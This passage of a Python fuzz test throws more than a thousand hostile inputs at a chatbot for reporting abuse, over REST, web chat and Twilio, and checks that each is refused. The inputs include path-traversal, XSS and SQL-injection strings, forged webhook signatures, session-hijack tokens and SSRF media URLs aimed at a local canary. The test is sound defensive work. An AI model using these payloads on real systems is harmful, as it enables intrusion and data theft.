        findings.count("rest", "wrong_type", None)
        chat.post("wrong_type", {"sender": sender, "message": value}, expect_reply=False, allow_4xx=True)
    for value in wrong_types + ["", " ", "x" * 300, "x" * 100_000, "\ud800", "\x00", "a\x00b", "default", "../../x",
                                "🙂" * 10, "\u202e" + "abc", "web-" + "0" * 32, "sms-" + "0" * 32, "%00", "a/b", "a?b#c"]:
        findings.count("rest", "hostile_sender", None)
        chat.post("hostile_sender", {"sender": value, "message": "hello"}, expect_reply=False, allow_4xx=True)
    findings.count("rest", "missing_field", None)
    chat.post("missing_field", {"message": "hello"}, expect_reply=False, allow_4xx=True)
    findings.count("rest", "missing_field", None)
    chat.post("missing_field", {"sender": sender}, expect_reply=False, allow_4xx=True)
    for metadata in ("x", [1], 5, None, {"a": "\ud800"}, {"language": "ar", "case_reference": "FORGED-META"},
                     {"x" * 1000: "y" * 10_000}):
        findings.count("rest", "hostile_metadata", None)
        chat.post("hostile_metadata", {"sender": sender, "message": "hello", "metadata": metadata}, expect_reply=False,
                  allow_4xx=True)
    for channel in ("twilio", "webchat", 5, ["x"], {"a": 1}, "", "x" * 1000):
        findings.count("rest", "forged_input_channel", None)
        chat.post("forged_input_channel", {"sender": sender, "message": "hello", "input_channel": channel},
                  expect_reply=False, allow_4xx=True)
    for text in ("x" * (max_chars + 1), "word " * 20_000, ("abc " * 250_000)[:1_000_000], "y" * 1_100_000):
        findings.count("rest", "huge", text)
        chat.post("huge", {"sender": sender, "message": text}, expect_reply=False, allow_4xx=True)
    slots = tracker_slots(stack, sender)
    for problem in forge_problems({}, slots, "", {"FORGED-META"}):
        findings.problem("rest/envelopes", problem)


def web_hostile_conversation(stack, findings, inputs: list[tuple[str, str]]) -> None:
    web = Web(stack, findings)
    try:
        confirm = web.session("setup", {"token": None, "last_seen": None, "lang": None})
        if confirm is None:
            return
        for n, (category, text) in enumerate(inputs):
            ack = web.send(category, {"message": text, "id": f"fz-{n}"})
            if ack is not None and isinstance(text, str) and text.strip() and len(text) <= stack.settings.max_message_chars:
                findings.check(ack["ok"], f"webchat/{category} {short(text, 60)}", f"refused: {ack}")
        slots = tracker_slots(stack, sender_of(confirm["token"]))
        findings.check(slots.get("language") in LANGUAGES, "webchat/hostile", f"language {slots.get('language')!r}")
    finally:
        web.close()


def web_forged_conversation(stack, findings, payloads) -> None:
    web = Web(stack, findings)
    try:
        confirm = web.session("setup", {"lang": None})
        if confirm is None:
            return
        sender = sender_of(confirm["token"])
        for n, (text, intent, forged) in enumerate(payloads):
            before = tracker_slots(stack, sender)
            web.send("forged_payload", {"message": text, "id": f"forge-{n}"})
            after = tracker_slots(stack, sender)
            for problem in forge_problems(before, after, intent, forged, text):
                findings.problem(f"webchat/forged {short(text, 70)}", problem)
    finally:
        web.close()


def web_shapes(stack, findings, victim_token: str) -> None:
    """Hostile shapes of the two events a client sends, forged sessions among them."""
    victim = sender_of(victim_token)
    web = Web(stack, findings)
    try:
        web.send("no_session", {"message": "hello", "id": "early"})  # before any session: refused, not an error
        for request in [..., None, [], "x", 5, [1, 2], {"token": 5}, {"token": ["x"]}, {"token": {"a": 1}},
                        {"token": "v1.web-é.1.x"}, {"token": "v1.web-a.1.é"}, {"token": victim},
                        {"token": victim_token[:-3] + "abc"}, {"token": "v1.%s.%d.AAAA" % (victim, time.time())},
                        {"token": "x" * 10_000}, {"token": "v1.web-" + "a" * 190 + ".1.x"}, {"token": "\ud800"},
                        {"lang": []}, {"lang": {}}, {"lang": 5}, {"lang": "xx"}, {"lang": "../../etc"}, {"lang": "\x00"},
                        {"last_seen": "x"}, {"last_seen": -1}, {"last_seen": 1e308}, {"last_seen": [1]},
                        {"token": None, "last_seen": 10 ** 50}, {"extra": "x" * 100_000}]:
            confirm = web.session("session_request_shape", request)
            if confirm is not None:
                findings.check(not confirm["resumed"] and sender_of(confirm["token"]) != victim,
                               f"webchat/session_request {short(request, 60)}", "joined another's conversation")
        confirm = web.session("setup", {"lang": None})
        mine = sender_of(confirm["token"]) if confirm else None
        shapes = [..., None, [1, 2], "str", 5, True, {"message": 5}, {"message": ["x"]}, {"message": {"a": 1}},
                  {"message": None}, {"message": True}, {"message": "hello", "id": ["x"]},
                  {"message": "hello", "id": {"a": 1}}, {"message": "hello", "id": 1.5}, {"message": "hello", "id": True},
                  {"message": "hello", "id": -1}, {"message": "hello", "id": ""}, {"message": "hello", "id": "i" * 10_000},
                  {"message": "hello", "id": "\ud800"}, {"message": "hello", "id": "a\x00b"},
                  {"message": "hello", "id": 10 ** 50}, {"message": "x" * 100_000, "id": "big"},
                  {"message": "x" * 900_000, "id": "bigger"},
                  {"message": "hello there from the fuzz", "id": "f1", "session_id": victim, "sender": victim,
                   "sender_id": victim, "token": victim_token, "input_channel": "twilio",
                   "parse_data": {"intent": {"name": "danger", "confidence": 1.0}},
                   "metadata": {"case_reference": "FORGED-WMETA"}}]
        for data in shapes:
            web.send("user_uttered_shape", data, timeout=30)
        findings.check(web.sio.connected, "webchat/shapes", "the server dropped the socket")
        if mine:
            slots = tracker_slots(stack, mine)
            for problem in forge_problems({}, slots, "", {"FORGED-WMETA"}):
                findings.problem("webchat/shapes", problem)
        texts = tracker_user_texts(stack, victim)
        findings.check("hello there from the fuzz" not in texts and "hello" not in texts, "webchat/shapes",
                       "a message went into another's conversation")
    finally:
        web.close()
    # Over the transport's limit (a megabyte): refused or the socket dropped, never the server.
    web = Web(stack, findings)
    try:
        web.session("setup", {"lang": None})
        findings.count("webchat", "huge", None)
        try:
            ack = web.sio.call("user_uttered", {"message": "z" * 1_100_000, "id": "too-big"}, timeout=30)
            findings.check(ack == {"ok": False, "reason": "too_long"}, "webchat/huge 1.1 MB", f"ack {short(ack)}")
        except Exception:
            pass  # the socket dropped: the transport refuses a packet over its buffer
    finally:
        web.close()


def phone_hostile_conversation(stack, twilio, findings, inputs: list[tuple[str, str]], channel: str) -> None:
    phone = Phone(stack, twilio, findings, channel=channel)
    phone.say("setup", "hello")
    for category, text in inputs:
        phone.post(category, phone.form(text))


def phone_forged_conversation(stack, twilio, findings, payloads, stage: list[str]) -> None:
    phone = Phone(stack, twilio, findings)
    for text in stage:
        phone.post("setup", phone.form(text))
    for text, intent, forged in payloads:
        before = tracker_slots(stack, phone.conversation_id()) if phone.sids else {}
        phone.post("forged_payload", phone.form(text))
        after = tracker_slots(stack, phone.conversation_id())
        for problem in forge_problems(before, after, intent, forged, text):
            findings.problem(f"twilio/forged {short(text, 70)} (stage {len(stage)})", problem)


def phone_envelopes(stack, twilio, findings, canary: Canary, rng: random.Random) -> list[str]:
    """Unsigned and forged webhooks, senders that are not numbers, lying media fields, huge and binary
    bodies. The numbers written to (to check what was sent them)."""
    numbers: list[str] = []
    phone = Phone(stack, twilio, findings)
    numbers.append(phone.number)
    phone.say("setup", "hello")
    # Not signed, or not by Twilio: 403, nothing stored, nothing sent.
    refused_sids = []
    for n, (signature, sign_url) in enumerate([("<none>", None), ("", None), ("bm90IGEgc2lnbmF0dXJl", None),
                                               (None, "https://evil.example/webhooks/twilio/webhook"),
                                               (RequestValidator("not-the-token").compute_signature(phone.url, {}), None),
                                               ("x" * 5000, None), ("\u00e9\u00e9", None)]):
        form = phone.form(f"/inform{{\"case_reference\": \"FORGED-UNSIGNED-{n}\"}}")
        refused_sids.append(form["MessageSid"])
        phone.post("bad_signature", form, signature=signature, sign_url=sign_url, expect=403)
    form = phone.form("signed, then changed")
    signature = RequestValidator(AUTH_TOKEN).compute_signature(phone.url, form)
    form["Body"] = '/inform{"case_reference": "FORGED-TAMPERED"}'
    refused_sids.append(form["MessageSid"])
    phone.post("bad_signature", form, signature=signature, expect=403)
    with phone.factory() as s:
        stored = s.execute(select(InboundMessage.message_sid).where(InboundMessage.message_sid.in_(refused_sids))).all()
    findings.check(not stored, "twilio/bad_signature", f"stored: {stored}")
    # Signed, but not a message (no sender, number or sid): answered, nothing else.
    for missing in ("MessageSid", "From", "To"):
        form = phone.form("hello")
        form[missing] = ""
        phone.post("not_a_message", form, wait=False)
    # Senders that are not phone numbers.
    for sender in ["abc", "whatsapp:", "whatsapp:abc", "+", "+44 7700 900 123", "<script>alert(1)</script>",
                   "' OR 1=1 --", "x" * 5000, "\x00", "+٤٤٧٧٠٠٩٠٠١٢٣", "sip:evil@example.com", "client:alice",
                   "messenger:123", "../../etc/passwd", "+44\u202e321", "🙂"]:
        if sender not in ("whatsapp:", "+"):  # (each its own: the fake Twilio is shared)
            sender = f"{sender}-{uuid.uuid4().hex[:6]}" if len(sender) < 30 else f"{uuid.uuid4().hex[:6]}{sender}"
        phone.post("hostile_from", phone.form("hello", From=sender))
    # NumMedia that lies, and media on hosts that are not Twilio's; then "1" (keep it): never fetched.
    fake_port = twilio.url.rsplit(":", 1)[1]
    evil = [f"{canary.url}/photo.jpg", f"http://localhost:{canary.port}/x", f"https://127.0.0.1:{canary.port}/tls",
            f"http://127.0.0.1:{fake_port}@127.0.0.1:{canary.port}/userinfo",
            f"http://127.0.0.1:{canary.port}#@127.0.0.1:{fake_port}/fragment", "file:///etc/passwd",
            f"ftp://127.0.0.1:{canary.port}/x", f"HTTP://127.0.0.1:{canary.port}/upper", f"//127.0.0.1:{canary.port}/rel",
            f"http://[::ffff:127.0.0.1]:{canary.port}/v6", f"http://2130706433:{canary.port}/decimal", "\x00", ""]
    for num_media, urls in [("-1", evil[:1]), ("abc", evil[:1]), ("9" * 5000, evil[:3]), ("11", evil[:11]),
                            ("3", []), ("1", [""]), ("0", evil[:1]), ("2", evil[:2]), ("5", evil[2:7]),
                            ("4", evil[7:11]), ("2", evil[11:13])]:
        media_phone = Phone(stack, twilio, findings)
        numbers.append(media_phone.number)
        media_phone.say("setup", "hello")
        fields = {"NumMedia": num_media}
        for i, url in enumerate(urls):
            fields[f"MediaUrl{i}"] = url
            fields[f"MediaContentType{i}"] = rng.choice(["image/jpeg", "text/html", "../../x", "x" * 500, ""])
        media_phone.post("media_lie", media_phone.form(rng.choice(["", "here is a photo", "\x00"]), **fields))
        media_phone.post("media_lie", media_phone.form("1"))  # "Yes, keep it", when that was asked
    # Huge, binary and invalid UTF-8 bodies.
    big = Phone(stack, twilio, findings)
    numbers.append(big.number)
    for body in ["w" * 100_000, ("abc " * 250_000)[:1_000_000], "💥" * 5000]:
        big.post("huge", big.form(body))
    for _ in range(6):
        big.post("binary", big.form(bytes(rng.randrange(256) for _ in range(rng.randint(1, 500))).decode("latin-1")))
    for tail in (b"%FF%FE%C3%28abc", b"\xff\xfe\xc3(abc", b"%00%00%00", b"%ED%A0%80 surrogate", b"\xed\xa0\x80",
                 b"%" , b"%G1%%%", b"a=b=c&&&=&", bytes(rng.randrange(256) for _ in range(300))):
        raw = ("MessageSid=SM" + uuid.uuid4().hex + "&AccountSid=" + ACCOUNT_SID + "&From=" + quote(big.number)
               + "&To=" + quote(TEST_SMS_NUMBER) + "&NumMedia=0&Body=").encode() + tail
        big.post("invalid_utf8", raw=raw)
    raw = "&".join(f"k{i}=v{i}" for i in range(5000)).encode() + b"&MessageSid=SM" + uuid.uuid4().hex.encode() + \
        b"&From=" + quote_from_bytes(big.number.encode()).encode() + b"&To=%2B447700900100&Body=many+fields"
    big.post("many_fields", raw=raw)
    big.post("long_sid", big.form("a very long MessageSid", MessageSid="SM" + "x" * 10_000))
    return numbers


# --- The test -----------------------------------------------------------------------------------

def test_a_thousand_hostile_inputs_through_every_channel(fuzz_stack, fake_twilio):
    stack, started = fuzz_stack, time.monotonic()
    findings = Findings()
    max_chars = stack.settings.max_message_chars
    inputs = Inputs(SEED, max_chars)
    rng = random.Random(SEED + 1)
    canary = Canary()
    victim = Web(stack, findings)
    victim_confirm = victim.session("setup", {"lang": None})
    assert victim_confirm, findings.problems
    victim.wait_text("who is reporting")
    assert victim.send("setup", {"message": "The man at number 4 shouts abuse at me", "id": "v-1"})["ok"]

    def batch(n: int, surrogates: bool) -> list[tuple[str, str]]:
        """Hostile texts of random kinds (lone surrogates only where the transport is JSON)."""
        categories = [c for c in TEXT_CATEGORIES if surrogates or c != "surrogate"]
        out = []
        for _ in range(n):
            category = rng.choice(categories)
            out.append((category, inputs.text(category)))
        return out

    tasks = []
    # REST: hostile texts (46 conversations of 9, at each stage of a report), the huge ones among them.
    for n in range(46):
        texts = batch(9, surrogates=True)
        if n < 5:
            texts.append(("huge", inputs.huge(n)))
        tasks.append(lambda t=texts, s=STAGES[n % 4]: rest_hostile_conversation(stack, findings, t, s))
    # REST: forged payloads (conversations of 3, at each stage; some streamed).
    payloads = forged_payloads(rng, 180)
    for n in range(0, len(payloads), 3):
        tasks.append(lambda p=payloads[n:n + 3], s=STAGES[(n // 3) % 4], st=(n % 27 == 0):
                     rest_forged_conversation(stack, findings, p, s, st))
    tasks.append(lambda: rest_envelopes(stack, findings, rng, max_chars))
    # Web chat: hostile texts, forged payloads, hostile shapes.
    for n in range(16):
        tasks.append(lambda t=batch(10, surrogates=True): web_hostile_conversation(stack, findings, t))
    web_payloads = forged_payloads(random.Random(SEED + 2), 60)
    for n in range(0, len(web_payloads), 4):
        tasks.append(lambda p=web_payloads[n:n + 4]: web_forged_conversation(stack, findings, p))
    tasks.append(lambda: web_shapes(stack, findings, victim_confirm["token"]))
    # Twilio: hostile texts (SMS and WhatsApp), forged payloads, envelopes.
    phone_numbers: list[str] = []
    for n in range(14):
        texts = batch(8, surrogates=False)
        channel = "whatsapp" if n % 4 == 3 else "sms"
        tasks.append(lambda t=texts, c=channel: phone_hostile_conversation(stack, fake_twilio, findings, t, c))
    phone_payloads = forged_payloads(random.Random(SEED + 3), 40)
    for n in range(0, len(phone_payloads), 4):
        tasks.append(lambda p=phone_payloads[n:n + 4], s=STAGES[(n // 4) % 4]:
                     phone_forged_conversation(stack, fake_twilio, findings, p, s))
    tasks.append(lambda: phone_numbers.extend(phone_envelopes(stack, fake_twilio, findings, canary, rng)))

    random.Random(SEED + 4).shuffle(tasks)  # the channels interleaved

    def run(task):
        try:
            task()
        except Exception as exc:  # a broken conversation is a finding, not the end of the fuzz
            findings.problem(getattr(task, "__name__", "task"), f"{type(exc).__name__}: {str(exc)[:300]}")

    with ThreadPoolExecutor(WORKERS) as pool:
        list(pool.map(run, tasks))
    fuzzed = time.monotonic() - started

    # Every text Twilio brought was handled, and every one sent back is a single segment with words in it.
    factory = session_factory(stack.settings.database_url)
    deadline = time.monotonic() + 120
    while True:
        with factory() as s:
            waiting = s.execute(select(InboundMessage.message_sid).where(InboundMessage.status != "done")).scalars().all()
        if not waiting or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    findings.check(not waiting, "twilio", f"{len(waiting)} texts never handled")
    time.sleep(3)  # the outbox's last sends
    with fake_twilio.lock:
        sent = list(fake_twilio.sent)
    ours = {stack.settings.twilio_sms_number, "whatsapp:" + stack.settings.twilio_whatsapp_number}
    for message in sent:
        if message.get("From") not in ours or message.get("To") not in findings.addresses:
            continue
        body = message.get("Body") or ""
        if message.get("ContentSid"):
            continue
        limit_ok = len(body) <= 1600 if message.get("To", "").startswith("whatsapp:") else fits_one_segment(body)
        findings.check(body.strip() and limit_ok, f"twilio/sent to {short(message.get('To'), 30)}",
                       f"body {short(body)}")
    findings.check(not canary.hits, "twilio/media", f"fetched from a host that is not Twilio's: {canary.hits}")
    canary.stop()

    # No case but by danger; none with a forged value.
    with factory() as s:
        cases = list(s.execute(select(Case)).scalars())
    for case in cases:
        values = {c.name: getattr(case, c.name) for c in Case.__table__.columns}
        findings.check(REFERENCE.match(case.reference or ""), "cases", f"reference {case.reference!r}")
        findings.check(case.immediate_risk and case.status == "incomplete", "cases",
                       f"a case not made by danger: {case.reference} {case.status}")
        findings.check(FORGED not in repr(values), "cases", f"a forged value in case {case.reference}")

    # The victim's conversation got nothing of anyone else's.
    def victim_check():
        texts = tracker_user_texts(stack, sender_of(victim_confirm["token"]))
        findings.check(texts == ["/greet", "The man at number 4 shouts abuse at me"], "webchat/victim",
                       f"user texts {short(texts, 200)}")

    run(victim_check)
    victim.close()

    # Every process alive and answering; a normal conversation on each channel.
    for proc in stack.definitions():
        popen = stack.procs.get(proc.name)
        findings.check(popen is not None and popen.poll() is None, f"process {proc.name}", "not running")
        if proc.health_url:
            try:
                ok = requests.get(proc.health_url, timeout=30).status_code == 200
            except requests.RequestException:
                ok = False
            findings.check(ok, f"process {proc.name}", "its health URL does not answer")
    def rest_normal():
        chat = Rest(stack, findings)
        reply = chat.say("normal", "hello") or []
        findings.check(any("who is reporting" in (m.get("text") or "") for m in reply)
                       and any(b["title"] == "It's happening to me" for m in reply for b in m.get("buttons", []))
                       and any(b["title"] == "English" for m in reply for b in m.get("buttons", [])),
                       "rest/normal", f"greeting {short(reply, 300)}")
        reply = chat.say("normal", KNIFE) or []
        findings.check(any("999" in (m.get("text") or "") for m in reply), "rest/normal", f"danger {short(reply, 300)}")

    def web_normal():
        web = Web(stack, findings)
        try:
            web.session("normal", {"lang": None})
            findings.check(web.wait_text("who is reporting"), "webchat/normal", "no greeting")
            web.send("normal", {"message": KNIFE, "id": "n-1"})
            findings.check(web.wait_text("999"), "webchat/normal", "no 999")
        finally:
            web.close()

    def phone_normal():
        phone = Phone(stack, fake_twilio, findings)
        phone.say("normal", "hello")
        phone.say("normal", KNIFE)
        deadline = time.monotonic() + 60
        while True:  # (the outbox sends the replies)
            bodies = "\n".join(m.get("Body", "") for m in phone.received())
            if ("who is reporting" in bodies and "999" in bodies) or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        findings.check("who is reporting" in bodies and "999" in bodies, "twilio/normal", f"replies {short(bodies, 300)}")

    for normal in (rest_normal, web_normal, phone_normal):
        run(normal)

    # Nothing of what was sent, no forged value and no Traceback in any server's log.
    logs = stack.logs()
    findings.check("Traceback" not in logs, "logs", "a Traceback: " + logs[max(0, logs.find("Traceback") - 300):][:3000])
    findings.check(FORGED not in logs, "logs", "a forged value: " + logs[max(0, logs.find(FORGED) - 300):][:600])
    seen = set()
    for text in findings.texts:
        probe = text.strip()[:60]
        if len(probe) < 16 or len(set(probe)) < 6 or probe in seen:
            continue
        seen.add(probe)
        escaped = json.dumps(probe)[1:-1]
        findings.check(probe not in logs and escaped not in logs, "logs", f"a text sent is in the log: {short(probe)}")
    for number in phone_numbers:
        if number.startswith("+4477008"):
            findings.check(number not in logs and number[1:] not in logs, "logs", f"a number is in the log: {number}")

    by_channel = Counter()
    for (channel, _), n in findings.sent.items():
        by_channel[channel] += n
    summary = (f"{sum(findings.sent.values())} inputs in {fuzzed:.0f} s (checks after: {time.monotonic() - started - fuzzed:.0f} s); "
               f"by channel {dict(by_channel)}; by channel and category {dict(sorted(findings.sent.items()))}")
    print(summary)
    assert not findings.problems, f"{len(findings.problems)} problems:\n" + "\n".join(findings.problems[:80]) + "\n" + summary
    assert sum(findings.sent.values()) >= 1000, summary
